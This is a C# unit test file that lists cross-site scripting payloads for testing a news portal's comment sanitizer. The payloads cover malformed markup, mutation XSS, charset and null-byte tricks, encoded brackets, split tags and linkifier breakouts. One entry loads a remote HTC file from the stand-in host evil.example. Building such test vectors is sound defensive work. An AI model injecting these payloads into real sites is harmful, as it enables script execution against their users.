namespace NewsPortal.UnitTests.Features.Comments;

/// <summary>
/// XSS vectors that abuse the parser or the comment pipeline: malformed markup, comments and CDATA, mutation XSS, charsets, encoded brackets, split tags, bare URLs.
/// Part of <see cref="XssVectors.All"/>.
/// </summary>
internal static class XssMarkupVectors
{
    public static IReadOnlyList<string> All { get; } =
    [
        // Malformed, unclosed and quote-breaking markup.
        """<IMG SRC="javascript:alert('XSS')" """,
        """<a href="javascript:alert(1)""",
        """<img src=x onerror=alert(1)//""",
        """<<img src=x onerror=alert(1)//>>""",
        "\"><script>alert(1)</script>",
        """'><script>alert(1)</script>""",
        """--><script>alert(1)</script>""",
        """</textarea><script>alert(1)</script>""",
        """</title><script>alert(1)</script>""",
        """</style><script>alert(1)</script>""",
        """<a title='"><script>alert(1)</script>'>x</a>""",
        """<div title="``onmouseover=alert(1)">x</div>""",
        """<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>""",
        """<HTML xmlns:xss><?import namespace="xss" implementation="https://evil.example/xss.htc"><xss:xss>XSS</xss:xss></HTML>""",

        // Comments, conditional comments, CDATA and processing instructions.
        """<!--<img src="--><img src=x onerror=alert(1)//">""",
        """<!-- --!><img src=x onerror=alert(1)> -->""",
        """<!--><img src=x onerror=alert(1)>-->""",
        """<![CDATA[<script>alert(1)</script>]]>""",
        """<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->""",
        """<!--[if]><script>alert(1)</script -->""",
        """<comment><img src="</comment><img src=x onerror=alert(1)//">""",
        """<? foo="><script>alert(1)</script>">""",
        """</ foo="><script>alert(1)</script>">""",
        """<! foo="><img src=x onerror=alert(1)//">""",
        """<x><!--</x><img src=x onerror=alert(1)//-->""",

        // Mutation XSS: raw-text elements and namespace confusion.
        """<noscript><p title="</noscript><img src=x onerror=alert(1)>">""",
        """<template><img src=x onerror=alert(1)></template>""",
        """<select><template><img src=x onerror=alert(1)></template></select>""",
        """<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>""",
        """<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">""",
        """<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">""",
        """<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>""",
        """<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>""",
        """<math><style><img src=x onerror=alert(1)></style></math>""",
        """<svg><p><style><img src=x onerror=alert(1)></style>""",
        """<table><tr><td><svg><foreignObject><img src=x onerror=alert(1)>""",
        """<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>""",
        """<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>""",
        """<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>""",
        """<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>""",
        """<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>""",
        """<title><img title="</title><img src onerror=alert(1)>"></title>""",
        """<style><img title="</style><img src onerror=alert(1)>"></style>""",
        """<plaintext><img src=x onerror=alert(1)>""",
        """<code><img src=x onerror=alert(1)></code>""",
        """<blockquote><svg onload=alert(1)></blockquote>""",
        """<b><i><p>x</b><img src=x onerror=alert(1)>""",

        // Charset tricks (UTF-7, UTF-16, US-ASCII), null bytes, invisible characters.
        """+ADw-script+AD4-alert(1)+ADw-/script+AD4-""",
        """<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-""",
        """<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-""",
        "<\0s\0c\0r\0i\0p\0t\0>\0a\0l\0e\0r\0t\0(\01\0)\0<\0/\0s\0c\0r\0i\0p\0t\0>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "\0<script>alert(1)</script>",
        "<img src=x on\0error=alert(1)>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "\uFEFF<script>alert(1)</script>",
        "<script\u200B>alert(1)</script>",
        "<a href=\"java\u200Bscript:alert(1)\">x</a>",
        "<a href=\"\u202Ejavascript:alert(1)\">x</a>",
        "<img src=x one\u00ADrror=alert(1)>",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        "\uFE64script\uFE65alert(1)\uFE64/script\uFE65",
        "\u00BCscript\u00BEalert(\u00A2XSS\u00A2)\u00BC/script\u00BE",

        // Encoded angle brackets that must stay text.
        """&lt;script&gt;alert(1)&lt;/script&gt;""",
        """&#60;script&#62;alert(1)&#60;/script&#62;""",
        """&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;""",
        """%3Cscript%3Ealert(1)%3C/script%3E""",
        """\x3cscript\x3ealert(1)\x3c/script\x3e""",
        """\u003cimg src=x onerror=alert(1)\u003e""",

        // Tags split across lines and paragraphs (the paragraph step works on the raw text).
        "<img\nsrc=x\nonerror=alert(1)>",
        "<scr\n\nipt>alert(1)</script>",
        "<svg\n\nonload=alert(1)>",
        "<a href=\"javascript:alert(1)\n\n\">x</a>",
        "<!--\n\n--><img src=x onerror=alert(1)>",
        "<iframe\nsrcdoc=\"<script>alert(1)</script>\">",
        "<script>\n\nalert(1)\n\n</script>",

        // Bare URLs that try to break out of the link the linkifier makes.
        """https://example.com/"onmouseover="alert(1)""",
        """https://example.com/'onmouseover='alert(1)""",
        """https://example.com/&quot;onmouseover=&quot;alert(1)""",
        """https://example.com/<script>alert(1)</script>""",
        """https://example.com/?q=<img src=x onerror=alert(1)>""",
        """https://example.com/`onmouseover=alert(1)`""",
    ];
}
